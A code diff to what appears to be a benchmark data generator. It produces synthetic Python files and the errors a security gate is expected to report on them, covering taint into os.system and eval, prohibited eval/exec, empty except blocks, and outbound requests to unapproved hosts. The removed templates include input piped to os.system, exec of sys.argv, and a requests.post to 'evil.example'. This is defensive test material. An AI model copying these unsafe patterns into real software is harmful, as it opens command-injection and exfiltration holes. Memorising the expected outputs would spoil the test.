@@ -462,59 +462,116 @@ OUTCOMES_SQL = f"""
     FROM ({PATCH_CANDIDATES_SQL}) p
 """
 
-# Code for the gates: templates with the errors each must give (%N is the part's key, %P its path).
-GATE_TEMPLATES = [
-    ("x = 1\nprint(x)\n", []),
-    ("def broken(:\n    pass\n", ["Lint/Syntax Error in %P:1: invalid syntax"]),
-    ("try:\n    go(%N)\nexcept:\n    pass\n", ["Lint Warning: Empty exception catch block at line 3 is discouraged."]),
-    ("y = eval('%N')\n", ["AST Gating Violation: Use of prohibited function 'eval' is blocked."]),
-    (
-        "import os\nname = input()\nalias = name\nos.system(alias)\nalias = 'x'\nos.system(alias)\n",
-        ["Dynamic Taint Gating Violation: Untrusted input variable 'alias' flows to dangerous sink 'os.system' without sanitization."],
-    ),
-    ("import subprocess\nn = input()\nn = int(n)\nsubprocess.run(n)\nn = input()\nsubprocess.run(n)\n", []),
-    (
-        "import sys, os\narg = sys.argv[1]\nos.popen(arg, 1)\nexec(arg)\n",
-        [
-            "Dynamic Taint Gating Violation: Untrusted input variable 'arg' flows to dangerous sink 'os.popen' without sanitization.",
-            "AST Gating Violation: Use of prohibited function 'exec' is blocked.",
-            "Dynamic Taint Gating Violation: Untrusted input variable 'arg' flows to dangerous sink 'exec' without sanitization.",
-        ],
-    ),
-    ("import requests\nrequests.get('https://api.github.com/x/%N')\n", []),
-    (
-        "import requests\nrequests.post('http://evil.example:80/%N')\nrequests.get(url)\nrequests.get()\n",
-        [
-            "Egress Governance Violation: Outbound request to unapproved host 'evil.example' is blocked to prevent indirect prompt injection.",
-            "Egress Governance Violation: Dynamic/variable network destination in 'requests.get' cannot be verified and is blocked.",
-        ],
-    ),
-    (
-        "q = input()\nq = eval(q)\ntry:\n    pass\nexcept ValueError:\n    pass\nsocket.connect(f'{q}')\n",
-        [
-            "Lint Warning: Empty exception catch block at line 5 is discouraged.",
-            "AST Gating Violation: Use of prohibited function 'eval' is blocked.",
-            "Egress Governance Violation: Dynamic/variable network destination in 'socket.connect' cannot be verified and is blocked.",
-        ],
-    ),
-]
+# Programs: a part is a program of six statements, whose kinds, names and hosts follow from its keys; one in thirteen does
+# not parse. Kinds: 0 read input, 1 copy, 2 sanitise, 3 read an argument, 4 run, 5 evaluate, 6 and 7 request, 8 swallow, 9 other.
+GATE_STATEMENTS = range(1, 7)
+_BROKEN = "p_partkey % 13 = 0"
+
+
+def _gate_parts(i: int) -> dict[str, str]:
+    return {
+        "kind": f"(p_partkey * {7 * i + 3} + p_size * {i} + {i * i}) % 10",
+        "a": f"'v' || CAST((p_partkey + p_size * {i}) % 3 AS STRING)",
+        "b": f"'v' || CAST((p_partkey + {i}) % 3 AS STRING)",
+        "host": f"CASE WHEN (p_partkey + {i}) % 3 = 0 THEN 'api.github.com' ELSE 'h' || CAST(p_partkey % 7 AS STRING) || '.example' END",
+    }
+
+
+_STATEMENT_SQL = """
+    CASE kind WHEN 0 THEN a || ' = input()' WHEN 1 THEN a || ' = ' || b WHEN 2 THEN a || ' = int(' || b || ')' WHEN 3 THEN a || ' = sys.argv[1]'
+        WHEN 4 THEN 'os.system(' || a || ')' WHEN 5 THEN 'eval(' || a || ')' WHEN 6 THEN 'requests.get("https://' || host || '/x")'
+        WHEN 7 THEN 'requests.post(' || a || ')' WHEN 8 THEN 'try:' || chr(10) || '    f()' || chr(10) || 'except:' || chr(10) || '    pass'
+        ELSE 'x = 1' END || chr(10)
+"""
 
 
 def gate_files(spark: SparkSession, sf_dir: str) -> DataFrame:
-    key = F.col("p_partkey").cast("string")
-    path = F.concat(F.lit("gate/part_"), key, F.lit(".py"))
-    codes = F.array(*[F.lit(code) for code, _ in GATE_TEMPLATES])
-    code = F.element_at(codes, (F.col("p_partkey") % len(GATE_TEMPLATES) + 1).cast("int"))
-    return spread(table(spark, sf_dir, "part")).select(
-        path.alias("path"), F.replace(code, F.lit("%N"), key).alias("content")
+    parts = spread(table(spark, sf_dir, "part"))
+    text = F.lit("import os, sys, requests\n")
+    for i in GATE_STATEMENTS:
+        statement = _STATEMENT_SQL
+        for name, value in _gate_parts(i).items():
+            statement = re.sub(rf"\b{name}\b", f"({value})", statement)
+        text = F.concat(text, F.expr(statement))
+    return parts.select(
+        F.concat(F.lit("gate/part_"), F.col("p_partkey").cast("string"), F.lit(".py")).alias("path"),
+        F.when(F.expr(_BROKEN), F.lit("def broken(:\n    pass\n")).otherwise(text).alias("content"),
     )
 
 
+def _fact(kind: str, line: str = "line", **fields: str) -> str:
+    empty = {
+        "target": "NULL::VARCHAR", "value_kind": "NULL::VARCHAR", "value_name": "NULL::VARCHAR", "func": "NULL::VARCHAR",
+        "names": "NULL::VARCHAR[]", "first_kind": "NULL::VARCHAR", "first_value": "NULL::VARCHAR",
+    }
+    return f"{{'kind': '{kind}', 'lineno': CAST({line} AS INT), " + ", ".join(f"'{k}': {fields.get(k, v)}" for k, v in empty.items()) + "}"
+
+
+def _assigned(value_kind: str, value_name: str = "NULL::VARCHAR", target: str = "a") -> str:
+    return _fact("assign", target=target, value_kind=f"'{value_kind}'", value_name=value_name)
+
+
+def _called(func: str, names: str = "[]::VARCHAR[]", first: str = "NULL::VARCHAR", value: str = "NULL::VARCHAR", line: str = "line") -> str:
+    return _fact("call", line, func=f"'{func}'", names=names, first_kind=first, first_value=value)
+
+
+# What each kind of statement is made of, in visiting order.
+_FACTS_OF = [
+    [_assigned("call", "'input'"), _called("input")],
+    [_assigned("name", "b")],
+    [_assigned("call", "'int'"), _called("int", "[b]", "'other'")],
+    [_assigned("argv")],
+    [_called("os.system", "[a]", "'other'")],
+    [_called("eval", "[a]", "'other'")],
+    [_called("requests.get", first="'text'", value="'https://' || host || '/x'")],
+    [_called("requests.post", "[a]", "'other'")],
+    [_called("f", line="line + 1"), _fact("except", "line + 2")],
+    [_assigned("other", target="'x'")],
+]
+_GATE_CTE = f"""
+    picked AS ({' UNION ALL '.join(f"SELECT p_partkey, {i} AS i, " + ', '.join(f'{v} AS {k}' for k, v in _gate_parts(i).items()) + f' FROM part WHERE NOT {_BROKEN}' for i in GATE_STATEMENTS)}),
+    placed AS (SELECT *, 2 + coalesce(sum(CASE WHEN kind = 8 THEN 4 ELSE 1 END) OVER (PARTITION BY p_partkey ORDER BY i
+        ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS line FROM picked)
+"""
+GATE_FACTS_DUCKDB = f"""
+    WITH {_GATE_CTE}
+    SELECT 'gate/part_' || CAST(p_partkey AS VARCHAR) || '.py' AS path, CAST(row_number() OVER (PARTITION BY p_partkey ORDER BY i, j) - 1 AS INT) AS seq,
+        f.kind, f.lineno, f.target, f.value_kind, f.value_name, f.func, array_to_string(f.names, ',') AS names, f.first_kind, f.first_value, CAST(NULL AS VARCHAR) AS message
+    FROM (SELECT p_partkey, i, unnest(facts) AS f, generate_subscripts(facts, 1) AS j
+          FROM (SELECT *, CASE kind {' '.join(f"WHEN {k} THEN [{', '.join(facts)}]" for k, facts in enumerate(_FACTS_OF))} END AS facts FROM placed) p) u
+    UNION ALL
+    SELECT 'gate/part_' || CAST(p_partkey AS VARCHAR) || '.py', 0, 'syntax_error', 1, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 'invalid syntax' FROM part WHERE {_BROKEN}
+"""
+
+
+def _tainted(func: str) -> str:
+    message = f"'Dynamic Taint Gating Violation: Untrusted input variable ''' || a || ''' flows to dangerous sink ''{func}'' without sanitization.'"
+    return f"CASE WHEN list_contains(tainted, a) AND NOT list_contains(clean, a) THEN [{message}] ELSE [] END"
+
+
+# The errors follow from the statements: taint step by step, the rest by kind.
 GATE_ERRORS_DUCKDB = f"""
-    SELECT path, CAST(n AS BIGINT) AS error_no, replace(error, '%P', path) AS error
-    FROM (SELECT 'gate/part_' || CAST(p_partkey AS VARCHAR) || '.py' AS path, unnest(errors) AS error, generate_subscripts(errors, 1) AS n
-          FROM (SELECT p_partkey, list_extract([{', '.join('[' + ', '.join(sql_text(e) for e in errors) + ']' + '::VARCHAR[]' for _, errors in GATE_TEMPLATES)}],
-                       CAST(p_partkey % {len(GATE_TEMPLATES)} + 1 AS INT)) AS errors FROM part) t) u
+    WITH RECURSIVE {_GATE_CTE},
+    flow AS (
+        SELECT p_partkey, 0 AS i, []::VARCHAR[] AS tainted, []::VARCHAR[] AS clean, []::VARCHAR[] AS errors FROM part WHERE NOT {_BROKEN}
+        UNION ALL
+        SELECT p.p_partkey, p.i,
+            CASE WHEN kind IN (0, 3) OR (kind = 1 AND list_contains(tainted, b)) THEN list_append(tainted, a)
+                 WHEN kind IN (1, 2) THEN list_filter(tainted, lambda t: t <> a) ELSE tainted END,
+            CASE WHEN kind = 2 THEN list_append(clean, a) ELSE clean END,
+            list_concat(errors, CASE kind WHEN 4 THEN {_tainted('os.system')}
+                WHEN 5 THEN list_concat(['AST Gating Violation: Use of prohibited function ''eval'' is blocked.'], {_tainted('eval')}) ELSE [] END)
+        FROM flow f JOIN placed p ON p.p_partkey = f.p_partkey AND p.i = f.i + 1
+    ),
+    found AS (
+        SELECT p_partkey, 0 AS part, i AS place, 'Lint Warning: Empty exception catch block at line ' || CAST(line + 2 AS INT) || ' is discouraged.' AS error FROM placed WHERE kind = 8
+        UNION ALL SELECT p_partkey, 1, generate_subscripts(errors, 1), unnest(errors) FROM flow WHERE i = 6
+        UNION ALL SELECT p_partkey, 2, i, 'Egress Governance Violation: Outbound request to unapproved host ''' || host || ''' is blocked to prevent indirect prompt injection.'
+            FROM placed WHERE kind = 6 AND host <> 'api.github.com'
+        UNION ALL SELECT p_partkey, 2, i, 'Egress Governance Violation: Dynamic/variable network destination in ''requests.post'' cannot be verified and is blocked.' FROM placed WHERE kind = 7
+        UNION ALL SELECT p_partkey, 0, 0, 'Lint/Syntax Error in gate/part_' || CAST(p_partkey AS VARCHAR) || '.py:1: invalid syntax' FROM part WHERE {_BROKEN}
+    )
+    SELECT 'gate/part_' || CAST(p_partkey AS VARCHAR) || '.py' AS path, row_number() OVER (PARTITION BY p_partkey ORDER BY part, place) AS error_no, error FROM found
 """
 
 # Commands: an order is a command that names a script by its customer key, or holds inline code.
